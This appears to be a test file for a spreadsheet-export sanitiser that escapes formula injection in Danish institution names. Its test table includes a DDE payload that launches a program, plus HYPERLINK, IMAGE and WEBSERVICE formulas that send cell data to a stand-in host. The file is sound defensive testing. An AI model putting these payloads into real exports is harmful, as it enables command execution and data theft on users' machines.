/** Names that mean harm, or are only odd, become cells that no spreadsheet runs, hides or splits. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { MOST_OF_A_CELL, plainCell } from "../../../../server/exports/plain-cell";
import { csvText } from "../../../../server/exports/write-csv";

const HOSTILE: readonly (readonly [name: string, text: string, cell: string])[] = [
  ["a formula", "=1+1", "'=1+1"],
  ["a plus", "+45 12345678", "'+45 12345678"],
  ["a minus", "-2+3", "'-2+3"],
  ["an at", "@SUM(A1)", "'@SUM(A1)"],
  ["DDE", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["DDE behind a plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["a link", '=HYPERLINK("http://x.invalid?a="&A1,"Se her")', '\'=HYPERLINK("http://x.invalid?a="&A1,"Se her")'],
  ["a picture from elsewhere", '=IMAGE("http://x.invalid")', '\'=IMAGE("http://x.invalid")'],
  ["a web service", '=WEBSERVICE("http://x.invalid")', '\'=WEBSERVICE("http://x.invalid")'],
  ["a tab first", "\t=1+1", "'=1+1"],
  ["a carriage return first", "\r=1+1", "'=1+1"],
  ["a line feed first", "\n=1+1", "'=1+1"],
  ["both line ends", "\r\n=1+1", "'=1+1"],
  ["spaces first", "   =1+1", "'=1+1"],
  ["a no-break space first", "\u00a0=1+1", "'=1+1"],
  ["a quotation mark first", '"=1+1"', '\'"=1+1"'],
  ["Danish quotation marks", "»=1+1«", "'»=1+1«"],
  ["typographic ones", "“=1+1”", "'“=1+1”"],
  ["an apostrophe first", "'=1+1", "'=1+1"],
  ["quotes and spaces", "\" ' =1+1", "'\" ' =1+1"],
  ["full width equals", "＝1+1", "'＝1+1"],
  ["full width plus", "＋1", "'＋1"],
  ["full width minus", "－1", "'－1"],
  ["full width at", "＠SUM(1)", "'＠SUM(1)"],
  ["small equals", "﹦1", "'﹦1"],
  ["superscript plus", "⁺1", "'⁺1"],
  ["a true minus", "−1", "'−1"],
  ["a zero-width space first", "\u200b=1", "'=1"],
  ["a joiner first", "\u200d=1", "'\u200d=1"],
  ["a byte order mark first", "\ufeff=1", "'=1"],
  ["a soft hyphen first", "\u00ad=1", "'=1"],
  ["NUL first", "\0=1", "'=1"],
  ["NUL within", "Eg\0eskolen", "Eg eskolen"],
  ["a cell of its own, semicolon", "Skolen;=1+1", "Skolen;'=1+1"],
  ["a cell of its own, comma and quote", 'Skolen",=1+1', "Skolen\",'=1+1"],
  ["a cell of its own, bar", "Skolen| @x", "Skolen| '@x"],
  ["a line of its own", "Skolen\n=1+1", "Skolen =1+1"],
  ["a turned direction", "Skolen \u202egro.ekle\u202c", "Skolen gro.ekle"],
  ["isolates", "\u2067Skolen\u2069", "Skolen"],
  ["a line separator", "Skolen\u2028to", "Skolen to"],
  ["half a character", "Skolen \ud83d", "Skolen \ufffd"],
  ["no character", "Skolen\uffff", "Skolen\ufffd"],
  ["escape and bell", "\u001b[31mSkolen\u0007", "[31mSkolen"],
  ["markup", "<script>alert(1)</script>", "<script>alert(1)</script>"],
  ["an entity", "&lt;b&gt;", "&lt;b&gt;"],
  ["quotes within", 'Skolen "Egen"', 'Skolen "Egen"'],
  ["only a sign", "=", "'="],
  ["nothing", "", ""],
  ["only what is not seen", "\u200b\ufeff \t", ""],
  ["a family of emoji", "👩‍👧 stue", "👩‍👧 stue"],
  ["an honest hyphen", "Vuggestue - afdeling 2", "Vuggestue - afdeling 2"],
  ["honest letters", "Børnehuset Åkæret", "Børnehuset Åkæret"],
];

describe("a cell", () => {
  it.each(HOSTILE)("of %s", (_name, text, cell) => {
    expect(plainCell(text)).toBe(cell);
  });

  it("is as long as a spreadsheet takes, never half a character", () => {
    expect(plainCell("a".repeat(MOST_OF_A_CELL))).toHaveLength(MOST_OF_A_CELL);
    const long = plainCell(`${"a".repeat(MOST_OF_A_CELL - 2)}😀😀`);
    expect(long.length).toBeLessThanOrEqual(MOST_OF_A_CELL);
    expect(long).toMatch(/a…$/);
    expect(plainCell(`=${"1".repeat(40_000)}`)).toHaveLength(MOST_OF_A_CELL);
  });

  const anything = fc.string({ unit: fc.oneof(fc.constantFrom(..."=+-@＝;,|'\" \t\n\0\u200b\u202e"), fc.string()) });

  it("begins no formula, has no control and no unseen sign, and is the same when it is done twice", () => {
    fc.assert(
      fc.property(anything, (text) => {
        const cell = plainCell(text);
        expect(cell).not.toMatch(/^[\s"“”„‟«»‹›＂`´]*[=+\-@＝＋－＠]/u);
        expect(cell).not.toMatch(/[;,|][\s"]*[=+\-@＝＋－＠]/u);
        expect(cell).not.toMatch(/(?![\u200c\u200d])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
        expect(plainCell(cell)).toBe(cell);
      }),
    );
  });
});

describe("text in a file of text", () => {
  it.each(["6-9", "1/2", "3.5", "10-12", "1e5", "12:30", "5. maj", "Marts 2026", "maj 2026", "1. okt"])(
    "stays the text it is: %s",
    (text) => {
      expect(csvText(text)).toBe(`'${text}`);
    },
  );
  it.each(["1. A", "Maj", "1", "2026", "1. august-holdet", "Forår 2026", "0.A", "2026-03-20", "6-9 år", ""])(
    "is left alone: %s",
    (text) => {
      expect(csvText(text)).toBe(text);
    },
  );
});
